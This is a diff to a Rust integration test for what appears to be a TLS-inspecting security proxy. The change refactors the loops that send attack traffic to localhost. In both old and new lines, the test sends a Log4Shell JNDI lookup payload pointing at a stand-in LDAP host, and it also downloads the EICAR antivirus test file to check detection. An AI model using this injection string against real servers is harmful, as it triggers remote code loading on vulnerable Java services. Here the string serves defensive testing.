@@ -65,6 +65,25 @@ async fn get(send: &mut Sender, uri: &str, host: &str, headers: &[(&str, &str)])
     (status, body)
 }
 
+/// ATTACKS_EACH requests, each on its own decrypted tunnel: (URL, status).
+async fn tunnel_attacks(
+    proxy: std::net::SocketAddr,
+    port: u16,
+    tls: tokio_rustls::TlsConnector,
+    uri: fn(usize) -> String,
+    headers: &'static [(&'static str, &'static str)],
+) -> Vec<(String, u16)> {
+    let host = format!("localhost:{port}");
+    let mut statuses = Vec::new();
+    for i in 0..ATTACKS_EACH {
+        let mut send = tls_sender(proxy, port, &tls).await;
+        let u = uri(i);
+        let (s, _) = get(&mut send, &u, &host, headers).await;
+        statuses.push((format!("https://{host}{u}"), s));
+    }
+    statuses
+}
+
 fn eicar() -> Vec<u8> {
     format!(
         "X5O!P%@AP[4\\PZX54(P^)7CC)7}}${}*",
@@ -160,40 +179,20 @@ async fn every_stage_on_mixed_clean_and_attack_traffic() {
         }));
     }
     // Attacks, alongside.
-    let ips = {
-        let tls = tls.clone();
-        let host = host.clone();
-        tokio::spawn(async move {
-            let mut statuses = Vec::new();
-            for i in 0..ATTACKS_EACH {
-                let mut send = tls_sender(proxy, port, &tls).await;
-                let uri = format!("/api/v1/login?attack={i}");
-                let (s, _) = get(
-                    &mut send,
-                    &uri,
-                    &host,
-                    &[("x-api-version", "${jndi:ldap://203.0.113.9:1389/a}")],
-                )
-                .await;
-                statuses.push((format!("https://{host}{uri}"), s));
-            }
-            statuses
-        })
-    };
-    let av = {
-        let tls = tls.clone();
-        let host = host.clone();
-        tokio::spawn(async move {
-            let mut statuses = Vec::new();
-            for i in 0..ATTACKS_EACH {
-                let mut send = tls_sender(proxy, port, &tls).await;
-                let uri = format!("/eicar.com?download={i}");
-                let (s, _) = get(&mut send, &uri, &host, &[]).await;
-                statuses.push((format!("https://{host}{uri}"), s));
-            }
-            statuses
-        })
-    };
+    let ips = tokio::spawn(tunnel_attacks(
+        proxy,
+        port,
+        tls.clone(),
+        |i| format!("/api/v1/login?attack={i}"),
+        &[("x-api-version", "${jndi:ldap://203.0.113.9:1389/a}")],
+    ));
+    let av = tokio::spawn(tunnel_attacks(
+        proxy,
+        port,
+        tls.clone(),
+        |i| format!("/eicar.com?download={i}"),
+        &[],
+    ));
     let url = tokio::spawn(async move {
         let mut statuses = Vec::new();
         for i in 0..ATTACKS_EACH {
